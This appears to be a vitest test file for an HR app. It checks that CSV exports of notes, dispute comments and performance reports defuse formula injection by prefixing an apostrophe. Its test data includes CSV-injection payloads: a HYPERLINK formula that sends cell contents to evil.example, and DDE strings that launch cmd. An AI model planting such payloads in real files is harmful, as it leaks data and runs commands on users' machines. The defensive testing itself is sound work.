/**
 * CSV formula injection (OWASP): a cell a person typed that starts with `= + - @`, a tab or a
 * carriage return must reach a spreadsheet as text, never as a live formula. Every CSV we write goes
 * through src/ui/csv.ts: the dossier (notes and the employee's dispute comments) and the report export.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvCell, toCsv } from '../../src/ui/csv.js';
import { performanceCsv } from '../../src/ui/screens/report/performance-report.js';
import { translator } from '../../src/ui/i18n/index.js';
import type { PerformanceRow } from '../../src/domain/dashboard/index.js';
import { makeEvidenceWorld, valueOf, type EvidenceWorld } from '../usecases/evidence/support.js';
import { makeCreateNote } from '../../src/usecases/evidence/create-note.js';
import { makeDisputeNote } from '../../src/usecases/evidence/dispute-note.js';
import { makeOpenOffboarding } from '../../src/usecases/offboarding/open-offboarding.js';
import { makeExportDossier } from '../../src/usecases/offboarding/export-dossier.js';

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
/** What a spreadsheet would run: a cell whose first character starts a formula. */
const LIVE = /^[=+\-@\t\r]/;

const cellsOf = (csv: string): string[] =>
  (parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();

describe('csvCell', () => {
  it.each(HOSTILE)('keeps %j as text: a leading apostrophe, the rest as typed', (v) => {
    const [cell] = cellsOf(`${csvCell(v)}\r\n`);
    expect(cell).toBe(`'${v}`);
  });

  it('leaves ordinary text and numbers alone, negative numbers included', () => {
    expect(csvCell('Close 10 more tickets')).toBe('Close 10 more tickets');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(toCsv([['x', 1]])).toBe('\uFEFFx,1\r\n');
  });
});

let w: EvidenceWorld;
afterEach(() => w?.db.cleanup());

describe('every CSV we write', () => {
  it('the dossier: a note and a dispute comment that start a formula arrive as text', () => {
    w = makeEvidenceWorld();
    const note = valueOf(
      makeCreateNote(w.deps)({
        actorId: w.m1.id,
        personId: w.emp.id,
        values: {
          kind: 'feedback',
          held_on: '2026-11-20',
          discussion: HOSTILE[0]!,
          kpis: ['tickets'],
          action1: HOSTILE[3]!,
          action1_owner: w.emp.id,
          action1_due: '2026-11-27',
          visibility: 'evidence',
        },
      }),
    ).note;
    valueOf(makeDisputeNote(w.deps)({ actorId: w.emp.id, noteId: note.id, values: { comment: HOSTILE[1]! } }));
    valueOf(
      makeOpenOffboarding(w.deps)({
        actorId: w.hr.id,
        employeeId: w.emp.id,
        reasonKind: 'performance',
        reasonText: HOSTILE[2]!,
      }),
    );
    const { csv } = valueOf(makeExportDossier(w.deps)({ actorId: w.hr.id, caseId: 1, deliver: 'none' }));
    const cells = cellsOf(csv);
    expect(cells).toContain(`'${HOSTILE[0]}`);
    expect(cells.some((c) => c.includes(HOSTILE[1]!))).toBe(true);
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
  });

  it('the report export: names and KPI names typed at import arrive as text', () => {
    const row: PerformanceRow = {
      department: '=cmd',
      personId: 'p1',
      personName: '@evil',
      jobTitle: '+job',
      kpiName: '-kpi',
      unit: '\tunit',
      value: -3,
      target: 10,
      direction: 'higher',
      met: false,
      rating: 2,
      status: 'late',
      response: 'acknowledged',
    };
    const cells = cellsOf(performanceCsv([row], translator('en'), 'en'));
    expect(cells).toEqual(expect.arrayContaining(["'=cmd", "'@evil", "'+job", "'-kpi", "'\tunit", '-3']));
    expect(cells.filter((c) => LIVE.test(c) && c !== '-3')).toEqual([]);
  });
});
